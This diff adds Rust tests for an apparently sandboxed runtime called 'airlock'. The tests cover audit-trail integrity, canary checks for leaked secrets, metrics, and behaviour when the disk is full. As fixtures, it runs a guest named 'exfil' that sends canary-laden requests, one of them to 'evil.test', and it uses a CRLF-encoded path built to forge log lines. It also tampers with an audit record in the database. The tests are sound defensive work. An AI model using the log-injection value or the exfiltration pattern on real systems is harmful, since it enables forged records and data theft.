@@ -1,0 +1,400 @@
+//! The audit trail end to end (catalogue 5.7): the real `airlock` binary records every run,
+//! `airlock audit verify` passes on an untouched trail and names the record an attacker with
+//! the database changed, and canaries put everywhere customer data and secrets travel never
+//! reach the trail, the metrics, or any file in the data and audit dirs (AL-01).
+
+use std::path::Path;
+use std::process::Output;
+
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+use airlock_host_api::audit::AuditEvent;
+use airlock_runtime::InvokeError;
+
+use crate::egress::{UPSTREAM_IP, upstreams};
+use crate::mock::{MockResponse, MockUpstream, TestCa};
+use crate::support::{
+    airlock, airlock_with, audit_dir, example, example_arg, files_under, run_against_mocks,
+    run_mapper, stderr, stdout,
+};
+
+/// `airlock audit ARGS` on `data`; asserts it exits `code`, returns stdout.
+fn audit(data: &Path, args: &[&str], code: i32) -> String {
+    let mut all = vec!["audit"];
+    all.extend(args);
+    let out = airlock(data, &all);
+    assert_eq!(out.status.code(), Some(code), "{}", stderr(&out));
+    stdout(&out)
+}
+
+/// The stored records, parsed.
+fn records(data: &Path) -> Vec<Value> {
+    audit(data, &["export"], 0)
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("every exported line is one JSON record"))
+        .collect()
+}
+
+fn mapper_ok(data: &Path) -> Output {
+    run_mapper(
+        data,
+        &example_arg("contact-mapper", "sample-input.json"),
+        &example_arg("contact-mapper", "sample-config.json"),
+        &[],
+    )
+}
+
+#[test]
+fn each_run_is_recorded_and_verify_names_the_record_that_was_changed() {
+    let data = TempDir::new().expect("temp dir");
+    assert_eq!(mapper_ok(data.path()).status.code(), Some(0));
+    let rejected = run_mapper(
+        data.path(),
+        r#"{"Id": 7}"#,
+        &example_arg("contact-mapper", "sample-config.json"),
+        &[],
+    );
+    assert_eq!(rejected.status.code(), Some(3));
+    assert_eq!(mapper_ok(data.path()).status.code(), Some(0));
+
+    let list = audit(data.path(), &["list"], 0);
+    assert!(list.contains("map-contact ok"), "{list}");
+    assert!(list.contains("input-rejected"), "{list}");
+    let kept = records(data.path());
+    assert_eq!(kept.len(), 3);
+    assert_eq!(kept[1]["validation"]["keyword"], "type");
+    assert_eq!(kept[1]["security"], true);
+    let verified = audit(data.path(), &["verify"], 0);
+    assert!(verified.contains("audit trail verified"), "{verified}");
+
+    // Someone with the database edits record 1 (turns the rejection into a success).
+    {
+        let db = sled::open(data.path().join("db")).expect("database opens");
+        let tree = db.open_tree("audit").expect("audit tree");
+        let line = tree
+            .get(1u64.to_be_bytes())
+            .expect("read")
+            .expect("record present");
+        let edited = String::from_utf8(line.to_vec())
+            .expect("records are UTF-8")
+            .replace("input-rejected", "ok");
+        tree.insert(1u64.to_be_bytes(), edited.as_bytes())
+            .expect("write");
+        db.flush().expect("flush");
+    }
+    let broken = audit(data.path(), &["verify"], 7);
+    assert!(broken.contains("BROKEN at record 1"), "{broken}");
+}
+
+#[test]
+fn refused_code_is_a_recorded_security_event() {
+    let data = TempDir::new().expect("temp dir");
+    let mapper = example("contact-mapper").display().to_string();
+    let out = airlock(
+        data.path(),
+        &["run", &mapper, "--action", "map-contact", "--input", "{}"],
+    );
+    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
+    let security = audit(data.path(), &["list", "--security", "--json"], 0);
+    let record: Value = serde_json::from_str(security.trim()).expect("one record");
+    assert_eq!(record["type"], "trust-refused");
+    assert_eq!(record["reason"], "unsigned");
+    assert_eq!(record["artifact"], "contact-mapper");
+    audit(data.path(), &["verify"], 0);
+}
+
+#[test]
+fn metrics_count_what_the_trail_holds() {
+    let data = TempDir::new().expect("temp dir");
+    assert_eq!(mapper_ok(data.path()).status.code(), Some(0));
+    let out = airlock(data.path(), &["metrics"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = stdout(&out);
+    assert!(
+        text.contains("airlock_invocations_total{outcome=\"ok\"} 1"),
+        "{text}"
+    );
+    assert!(
+        text.contains("airlock_invocation_duration_seconds_count 1"),
+        "{text}"
+    );
+}
+
+/// Distinct canaries, one per place data travels.
+struct Canaries {
+    secret: String,
+    stored: String,
+    query: String,
+    header: String,
+    upstream: String,
+    input: String,
+}
+
+impl Canaries {
+    fn new() -> Self {
+        let make = |what: &str| format!("canary{what}{}", random_hex());
+        Self {
+            secret: make("secret"),
+            stored: make("stored"),
+            query: make("query"),
+            header: make("header"),
+            upstream: make("upstream"),
+            input: make("input"),
+        }
+    }
+
+    fn all(&self) -> [&str; 6] {
+        [
+            &self.secret,
+            &self.stored,
+            &self.query,
+            &self.header,
+            &self.upstream,
+            &self.input,
+        ]
+    }
+}
+
+/// 64 random bits as hex (std's per-process random hash keys; no extra dependency).
+fn random_hex() -> String {
+    use std::hash::{BuildHasher, RandomState};
+    format!(
+        "{:016x}",
+        RandomState::new().hash_one(std::time::SystemTime::now())
+    )
+}
+
+fn contains(haystack: &[u8], needle: &str) -> bool {
+    haystack
+        .windows(needle.len())
+        .any(|window| window == needle.as_bytes())
+}
+
+#[test]
+fn canaries_never_reach_the_trail_the_metrics_or_the_disk() {
+    // AL-01 across success and error paths: credentials injected from a flag and from the
+    // store, query strings, request headers, upstream bodies echoing all of them, inputs and
+    // outputs, a schema rejection, a denied request, and a path built to forge log lines.
+    let c = Canaries::new();
+    let upstream_canary = c.upstream.clone();
+    let ca = TestCa::new();
+    let names = ["vault.allowed.test", "api.allowed.test"];
+    let mock = MockUpstream::start(&ca, &names, UPSTREAM_IP, move |request| {
+        let mut echo = MockResponse::echo_headers(request);
+        echo = echo.header("x-upstream", &upstream_canary);
+        echo
+    });
+    let data = TempDir::new().expect("temp dir");
+    let elsewhere = TempDir::new().expect("temp dir");
+    let pins: Vec<String> = names
+        .iter()
+        .map(|n| format!("{n}={}", mock.addr()))
+        .collect();
+    let exfil = example("exfil").display().to_string();
+    let ca_pem = ca.write_pem(elsewhere.path());
+    let mut outputs: Vec<Output> = Vec::new();
+    let fetch = |input: Value, extra: &[&str], env: &[(&str, &str)]| {
+        let mut args = run_against_mocks(&pins, &ca_pem, "exfil", "fetch");
+        args.extend(["--json".into(), "--input".into(), input.to_string()]);
+        args.extend(extra.iter().map(|a| a.to_string()));
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        airlock_with(data.path(), &args, "", env)
+    };
+    let with_query = |host: &str| {
+        json!({
+            "url": format!("https://{host}/items?q={}", c.query),
+            "headers": [["x-note", c.header]],
+        })
+    };
+    outputs.push(fetch(
+        with_query("vault.allowed.test"),
+        &["--secret", "token=env:AIRLOCK_TEST_TOKEN"],
+        &[("AIRLOCK_TEST_TOKEN", &c.secret)],
+    ));
+    outputs.push(fetch(with_query("api.allowed.test"), &[], &[]));
+    outputs.push(fetch(with_query("evil.test"), &[], &[]));
+    outputs.push(fetch(
+        json!({"url": "https://api.allowed.test/x%0d%0a{\"type\":\"fake\"}%0d%0aFAKE=1"}),
+        &[],
+        &[],
+    ));
+
+    let stored = airlock_with(
+        data.path(),
+        &[
+            "credentials",
+            "set",
+            "--tenant",
+            "acme",
+            "--installation",
+            "exfil",
+            "--integration",
+            &exfil,
+            "token",
+        ],
+        &c.stored,
+        &[],
+    );
+    assert_eq!(stored.status.code(), Some(0), "{}", stderr(&stored));
+    outputs.push(fetch(
+        with_query("vault.allowed.test"),
+        &["--tenant", "acme", "--installation", "exfil"],
+        &[],
+    ));
+
+    let mapper_input = json!({
+        "Id": "003A",
+        "FirstName": c.input,
+        "LastName": "Lovelace",
+        "Email": format!("{}@example.com", c.input),
+    })
+    .to_string();
+    let config = example_arg("contact-mapper", "sample-config.json");
+    outputs.push(run_mapper(data.path(), &mapper_input, &config, &["--json"]));
+    let bad_input = json!({"Id": c.input, "Email": 42}).to_string();
+    outputs.push(run_mapper(data.path(), &bad_input, &config, &["--json"]));
+
+    // The runs did what they should, so the sweep below is not vacuous.
+    // vault, api and the stored-credential vault; the forged path is refused by policy.
+    assert_eq!(mock.requests().len(), 3);
+    assert!(stdout(&outputs[3]).contains("HttpRequestDenied"));
+    let seen = mock.requests();
+    assert!(seen[0].header("authorization").join("").contains(&c.secret));
+    assert!(
+        stdout(&outputs[0]).contains(&c.query),
+        "the guest got its data back"
+    );
+    assert!(
+        stdout(&outputs[5]).contains(&c.input),
+        "the mapper output carries the input"
+    );
+    assert_eq!(outputs[6].status.code(), Some(3));
+
+    let export = audit(data.path(), &["export"], 0);
+    let kept = records(data.path());
+    let invocations = kept.iter().filter(|r| r["type"] == "invocation").count();
+    assert_eq!(invocations, 7, "{export}");
+    assert!(
+        export.contains("https://vault.allowed.test/items"),
+        "{export}"
+    );
+    // AL-03: nothing a guest sends can split or forge a record.
+    for line in export.lines() {
+        let record: Value = serde_json::from_str(line).expect("one record per line");
+        assert!(record.get("seq").is_some());
+    }
+    let list = audit(data.path(), &["list"], 0);
+    assert!(!list.lines().any(|l| l.starts_with("FAKE")), "{list}");
+
+    let mut sinks: Vec<(String, Vec<u8>)> = vec![
+        ("audit export".into(), export.into_bytes()),
+        ("audit list".into(), list.into_bytes()),
+        (
+            "audit list --json".into(),
+            audit(data.path(), &["list", "--json"], 0).into_bytes(),
+        ),
+        (
+            "metrics".into(),
+            stdout(&airlock(data.path(), &["metrics"])).into_bytes(),
+        ),
+    ];
+    for file in files_under(data.path())
+        .into_iter()
+        .chain(files_under(&audit_dir()))
+    {
+        let bytes = std::fs::read(&file).expect("file reads");
+        sinks.push((file.display().to_string(), bytes));
+    }
+    for canary in c.all() {
+        for (sink, bytes) in &sinks {
+            assert!(!contains(bytes, canary), "{canary} reached {sink}");
+        }
+    }
+    // Secrets reach no output of any run either; the guest log and summary are on stderr.
+    for out in &outputs {
+        for secret in [&c.secret, &c.stored] {
+            assert!(!contains(&out.stdout, secret) && !contains(&out.stderr, secret));
+        }
+    }
+}
+
+/// AL-07 with a real fault: in a child process (resource limits are per process), the disk
+/// "fills" mid-run, so sled's next write fails with EFBIG.
+#[test]
+fn a_trail_that_cannot_write_stops_egress_and_withholds_results() {
+    let out = std::process::Command::new(std::env::current_exe().expect("test binary"))
+        .args([
+            "--exact",
+            "audit::disk_full_child",
+            "--ignored",
+            "--nocapture",
+        ])
+        .env(DISK_FULL_CHILD, "1")
+        .output()
+        .expect("the child test runs");
+    assert!(
+        out.status.success() && stdout(&out).contains("1 passed"),
+        "{}\n{}",
+        stdout(&out),
+        stderr(&out)
+    );
+}
+
+const DISK_FULL_CHILD: &str = "AIRLOCK_TEST_DISK_FULL_CHILD";
+
+#[tokio::test]
+#[ignore = "run in its own process by a_trail_that_cannot_write_stops_egress_and_withholds_results"]
+async fn disk_full_child() {
+    if std::env::var_os(DISK_FULL_CHILD).is_none() {
+        return;
+    }
+    let (mock, egress) = upstreams(&["api.allowed.test"], |_| MockResponse::status(204));
+    let audit_home = TempDir::new().expect("temp dir");
+    let (egress, trail) = egress.with_audit(audit_home.path());
+    // Loaded (and its memory image made) while files may still grow.
+    let exfil = egress.load("exfil");
+    let config = exfil.validate_config(None).expect("no config");
+    let fetch = r#"{"url": "https://api.allowed.test/"}"#;
+    let ran = egress.runtime.invoke(&exfil, &config, "fetch", fetch).await;
+    assert!(
+        ran.record.is_some() && ran.result.is_ok(),
+        "{:?}",
+        ran.result
+    );
+    assert_eq!(mock.requests().len(), 1);
+
+    // From here on no file of this process may grow: the next sled segment cannot be written.
+    let db = egress.data().join("db").join("db");
+    let size = std::fs::metadata(&db).expect("db file").len();
+    // SAFETY: plain libc calls on this process's own signal disposition and limits.
+    unsafe {
+        libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
+        let limit = libc::rlimit {
+            rlim_cur: size,
+            rlim_max: libc::RLIM_INFINITY,
+        };
+        assert_eq!(libc::setrlimit(libc::RLIMIT_FSIZE, &limit), 0);
+    }
+    let mut appended = 0;
+    let filler = || AuditEvent::TrustRefused {
+        artifact: "filler.airlock".into(),
+        reason: "unsigned".into(),
+    };
+    while trail.append(filler()).await.is_ok() {
+        appended += 1;
+        assert!(appended < 50_000, "the trail never hit the file size limit");
+    }
+    assert!(trail.failure().is_some());
+
+    let ran = egress.runtime.invoke(&exfil, &config, "fetch", fetch).await;
+    assert_eq!(mock.requests().len(), 1, "a request left without a record");
+    let reasons: Vec<_> = ran.egress.iter().filter_map(|e| e.reason.clone()).collect();
+    assert_eq!(reasons, ["audit-unavailable"]);
+    assert!(
+        matches!(&ran.result, Err(InvokeError::Audit(_))),
+        "{:?}",
+        ran.result
+    );
+    assert!(ran.record.is_none());
+}
